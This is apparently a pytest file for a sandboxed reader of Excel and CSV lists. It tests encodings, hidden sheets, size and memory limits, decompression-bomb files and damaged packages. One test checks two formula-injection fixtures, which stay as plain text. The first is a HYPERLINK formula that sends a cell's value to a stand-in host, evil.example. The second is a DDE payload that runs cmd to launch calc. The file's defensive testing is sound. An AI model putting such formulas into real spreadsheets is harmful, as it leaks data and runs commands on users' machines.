"""Files read in the confined child."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import openpyxl
import pytest

from app.errors import UserError
from app.exchange.cells import Cell
from app.exchange.limits import MEGABYTE, Limits
from app.exchange.reading import ListFacts, ListReader
from tests.builders import lists


def read(
    path: Path, *, sheet: str | None = None, limits: Limits | None = None
) -> tuple[ListFacts, dict[int, tuple[Cell, ...]]]:
    with ListReader(path, sheet=sheet, limits=limits) as reader:
        return reader.facts, {row.number: row.cells for chunk in reader for row in chunk}


def test_a_workbook_keeps_kinds_and_row_numbers(tmp_path: Path) -> None:
    path = lists.workbook(
        tmp_path / "a.xlsx",
        ["姓名", "手机", "生日"],
        [],
        ["张三", 13800138000, dt.date(1990, 3, 5)],
        ["=1+1", True, None],
    )
    facts, rows = read(path)
    assert (facts.sheet, facts.rows) == ("Sheet", 4)
    assert rows == {
        1: ("姓名", "手机", "生日"),
        3: ("张三", 13800138000.0, dt.date(1990, 3, 5)),
        4: ("=1+1", True, ""),
    }


def test_sheets_hidden_rows_and_the_1904_epoch_are_told(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active.title = "空表"
    second = book.create_sheet("客户")
    second.append(["姓名"])
    second.append(["张三"])
    second.row_dimensions[2].hidden = True
    book.create_sheet("藏").sheet_state = "hidden"
    book.epoch = openpyxl.utils.datetime.CALENDAR_MAC_1904
    book.save(tmp_path / "a.xlsx")
    facts, rows = read(tmp_path / "a.xlsx")
    assert (facts.sheet, facts.sheets, facts.hidden_rows, facts.epoch_1904) == (
        "客户",
        ("空表", "客户"),
        1,
        True,
    )
    assert rows[2] == ("张三",)
    with pytest.raises(UserError, match="list-sheet-missing"):
        read(tmp_path / "a.xlsx", sheet="藏")


def test_a_formula_without_a_result_stays_the_text_it_is() -> None:
    _, rows = read(lists.FILES / "07_formula_injection.xlsx")
    assert rows[2][1] == '=HYPERLINK("http://evil.example/?x="&A2,"点击")'
    assert rows[7][1] == "=cmd|' /C calc'!A0"


def test_the_old_format_is_read() -> None:
    _, rows = read(lists.FILES / "13_biff8.xls")
    assert rows[2] == ("张三", 13800138000.0, dt.date(1990, 3, 5))


@pytest.mark.parametrize(
    ("name", "encoding", "delimiter"),
    [
        ("16_gbk.csv", "gb18030", ","),
        ("18_utf8_bom.csv", "utf-8-sig", ","),
        ("23_csv_named.xls", "gb18030", "\t"),
    ],
)
def test_text_lists_in_their_encodings(name: str, encoding: str, delimiter: str) -> None:
    facts, rows = read(lists.FILES / name)
    assert (facts.encoding, facts.delimiter) == (encoding, delimiter)
    assert rows == {
        1: ("姓名", "手机", "地址", "备注"),
        2: ("张三", "13800138000", "成都市武侯区", "0012"),
        3: ("李四", "1.39E+10", "北京,朝阳", '含"引号"\n换行'),
    }


def test_a_cell_at_the_end_of_the_world_costs_only_the_child(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="list-too-heavy"):
        read(lists.cell_at_the_end_of_the_world(tmp_path / "far.xlsx"))


def test_a_swelling_sheet_dies_of_the_memory_limit(tmp_path: Path) -> None:
    path = lists.bomb(tmp_path / "bomb.xlsx", 100)
    with pytest.raises(UserError, match="list-too-heavy"):
        read(path, limits=Limits(ratio=100_000, memory_bytes=96 * MEGABYTE))


def test_a_reader_that_says_nothing_is_given_up(tmp_path: Path) -> None:
    path = lists.bomb(tmp_path / "a.xlsx", 60)
    with pytest.raises(UserError, match="list-too-slow"):
        read(path, limits=Limits(ratio=100_000, stall_seconds=0.0))


def test_too_many_rows_and_columns_are_refused(tmp_path: Path) -> None:
    path = lists.workbook(tmp_path / "a.xlsx", *[["a", "b", "c"]] * 4)
    with pytest.raises(UserError, match="list-too-long"):
        read(path, limits=Limits(rows=3))
    with pytest.raises(UserError, match="list-too-wide"):
        read(path, limits=Limits(columns=2))
    text = lists.csv_file(tmp_path / "a.csv", "a,b,c\n" * 4)
    with pytest.raises(UserError, match="list-too-long"):
        read(text, limits=Limits(rows=3))
    with pytest.raises(UserError, match="list-too-wide"):
        read(text, limits=Limits(columns=2))


def test_a_broken_sheet_part_is_damage_not_a_crash(tmp_path: Path) -> None:
    path = lists.package(
        tmp_path / "a.xlsx", {"xl/worksheets/sheet1.xml": "<worksheet><sheetData><row></oops>"}
    )
    with pytest.raises(UserError, match="list-damaged"):
        read(path)


def test_a_quote_that_never_closes_names_its_line(tmp_path: Path) -> None:
    path = lists.csv_file(tmp_path / "a.csv", '姓名,备注\n张三,好\n李四,"' + "x" * 200_000)
    with pytest.raises(UserError, match="list-quote-open") as refusal:
        read(path)
    assert refusal.value.facts["line"] == 3


def test_leaving_early_ends_the_child(tmp_path: Path) -> None:
    path = lists.csv_file(tmp_path / "a.csv", "姓名\n" + "张三\n" * 50_000)
    with ListReader(path) as reader:
        next(iter(reader))
        process = reader._process
    assert process.exitcode is not None


def test_what_the_child_says_on_stderr_stays_there(tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(UserError):
        read(lists.cell_at_the_end_of_the_world(tmp_path / "far.xlsx"))
    assert capfd.readouterr().err == ""
